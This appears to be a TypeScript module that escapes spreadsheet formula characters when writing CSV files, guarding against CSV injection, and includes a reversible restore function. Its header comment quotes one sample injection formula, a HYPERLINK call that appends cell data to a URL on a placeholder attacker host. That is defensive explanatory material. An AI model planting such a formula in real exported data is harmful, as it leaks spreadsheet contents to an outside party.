import { stringify } from 'csv-stringify/sync';

/**
 * CSV that spreadsheet programs open as data, never as formulas (OWASP "CSV Injection"): a text cell that begins with
 * `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms, which some programs fold to them) gets a
 * leading `'`, so `=HYPERLINK("http://evil.example/x?"&A1)` is shown as text instead of run. Numbers stay numbers:
 * a number cell, or a text cell that is a plain decimal number (`-5`, `+1.5e3`), is written as it is.
 *
 * The escape can be undone exactly: a text that already begins with apostrophes before one of those characters gets
 * one more, and restoreFormulaText takes one off, so restoreFormulaText(escapeFormulaText(t)) === t for every text.
 */

/** One CSV cell as a writer gives it: text, a number, or nothing (an empty cell). */
export type CsvCell = string | number | null | undefined;

/** What a text cell may begin with, after any apostrophes, to be read as a formula. */
const FORMULA_START = /^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** An escaped text: one or more apostrophes before such a character. */
const ESCAPED_START = /^'+[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A plain decimal number, which spreadsheets read as a value, not a formula. */
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * The rows as CSV text (csv-stringify: `"` quotes only where needed), every text cell passed through escapeFormulaText.
 * `options.recordDelimiter` is `unix` (LF, the default) or `windows` (CRLF).
 * @example csvText([['COMMENT_OBS', 'OBS_VALUE'], ['=1+2', -5]]) // "COMMENT_OBS,OBS_VALUE\n'=1+2,-5\n"
 */
export function csvText(rows: readonly (readonly CsvCell[])[], options: { recordDelimiter?: 'unix' | 'windows' } = {}): string {
  return stringify(rows.map((row) => row.map(escapeFormulaText)), { record_delimiter: options.recordDelimiter ?? 'unix' });
}

/**
 * A cell as a spreadsheet program must see it: a text that could start a formula gets a leading `'`; numbers, plain
 * decimal numbers written as text, empty cells and every other text stay as they are.
 * @example escapeFormulaText('@SUM(A1:A9)') // "'@SUM(A1:A9)"
 * @example escapeFormulaText('-5') // '-5'
 * @example escapeFormulaText("'=x") // "''=x"
 */
export function escapeFormulaText<T extends CsvCell>(cell: T): T | string {
  if (typeof cell !== 'string' || PLAIN_NUMBER.test(cell) || !FORMULA_START.test(cell)) return cell;
  return `'${cell}`;
}

/**
 * The text a cell held before escapeFormulaText: one leading `'` is taken off when apostrophes precede `=`, `+`, `-`,
 * `@`, a tab or a carriage return (or their full-width forms); any other text is answered unchanged. A reader of the
 * CSV files the product writes (the upload template) calls it on every cell, so a template read back gives the
 * original text.
 * @example restoreFormulaText("'=HYPERLINK(\"x\")") // '=HYPERLINK("x")'
 * @example restoreFormulaText("'quoted") // "'quoted"
 */
export function restoreFormulaText(text: string): string {
  return ESCAPED_START.test(text) ? text.slice(1) : text;
}
